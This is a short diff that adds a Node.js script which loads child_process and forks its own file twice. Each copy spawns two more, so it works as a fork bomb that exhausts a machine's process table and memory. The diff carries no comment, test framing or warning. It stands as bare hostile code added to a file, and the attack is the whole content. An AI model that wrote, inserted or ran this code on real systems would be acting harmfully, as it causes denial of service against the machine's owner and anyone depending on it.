@@ -1,0 +1,3 @@
+const cp = require('child_process');
+cp.fork(__filename);
+cp.fork(__filename);
